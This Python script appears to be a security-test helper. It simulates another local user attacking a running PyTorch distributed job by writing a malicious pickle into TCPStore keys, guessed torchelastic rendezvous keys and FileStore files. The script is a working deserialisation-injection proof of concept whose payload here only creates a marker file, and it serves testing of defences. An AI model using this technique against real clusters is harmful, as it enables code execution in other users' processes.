"""``python _store_planter.py MARKER HOST:PORT... -- FILE...``: what another local user tries
against a running multi-process trial. For each TCP port, it connects as a TCPStore client,
lists the keys (and guesses torchelastic's rendezvous keys) and sets each to a pickle whose
unpickling creates MARKER; for each file, it tries to write such a pickle into it. Prints one
line per attempt; never raises.
"""

import base64
import builtins
import os
import pickle
import signal
import sys
import time
from datetime import timedelta

PORT_TIMEOUT_S = 30.0


class Plant:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return builtins.open, (self.marker, "w")


def _plant_tcp(address: str, payload: bytes) -> None:
    from torch.distributed import TCPStore

    host, port = address.rsplit(":", 1)
    try:
        store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=5), wait_for_workers=False)
    except Exception as exc:  # noqa: BLE001
        print(f"tcp {address}: no store: {type(exc).__name__}", flush=True)
        return
    keys = []
    try:
        keys = list(store.list_keys())
    except Exception as exc:  # noqa: BLE001
        print(f"tcp {address}: cannot list keys: {type(exc).__name__}", flush=True)
    guesses = ["torch.rendezvous.none", "torch.rendezvous.mpadvise", "default_pg/0//cuda//0"]
    for key in dict.fromkeys([*keys, *guesses]):
        value = base64.b64encode(payload) if key.startswith("torch.rendezvous.") else payload
        try:
            store.set(key, value)
            print(f"tcp {address}: planted {key}", flush=True)
        except Exception as exc:  # noqa: BLE001
            print(f"tcp {address}: {key}: {type(exc).__name__}", flush=True)


def main(argv: list[str]) -> None:
    marker, rest = argv[0], argv[1:]
    cut = rest.index("--") if "--" in rest else len(rest)
    ports, files = rest[:cut], rest[cut + 1:]
    payload = pickle.dumps(Plant(marker))
    from torch.distributed import FileStore

    for address in ports:
        # A socket that is no store may take the client's handshake and never answer: each
        # port is tried in a child of its own, given up after PORT_TIMEOUT_S.
        pid = os.fork()
        if pid == 0:
            try:
                _plant_tcp(address, payload)
            finally:
                sys.stdout.flush()
                os._exit(0)
        deadline = time.monotonic() + PORT_TIMEOUT_S
        while os.waitpid(pid, os.WNOHANG) == (0, 0):
            if time.monotonic() > deadline:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
                print(f"tcp {address}: no answer (not a store)", flush=True)
                break
            time.sleep(0.1)
    for path in files:
        try:
            with open(path, "ab") as f:
                f.write(payload)
            print(f"file {path}: appended", flush=True)
        except OSError as exc:
            print(f"file {path}: {type(exc).__name__}", flush=True)
        try:
            FileStore(path, 2).set("torch.rendezvous.mpadvise", payload)
            print(f"file {path}: planted", flush=True)
        except Exception as exc:  # noqa: BLE001
            print(f"file {path}: store: {type(exc).__name__}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
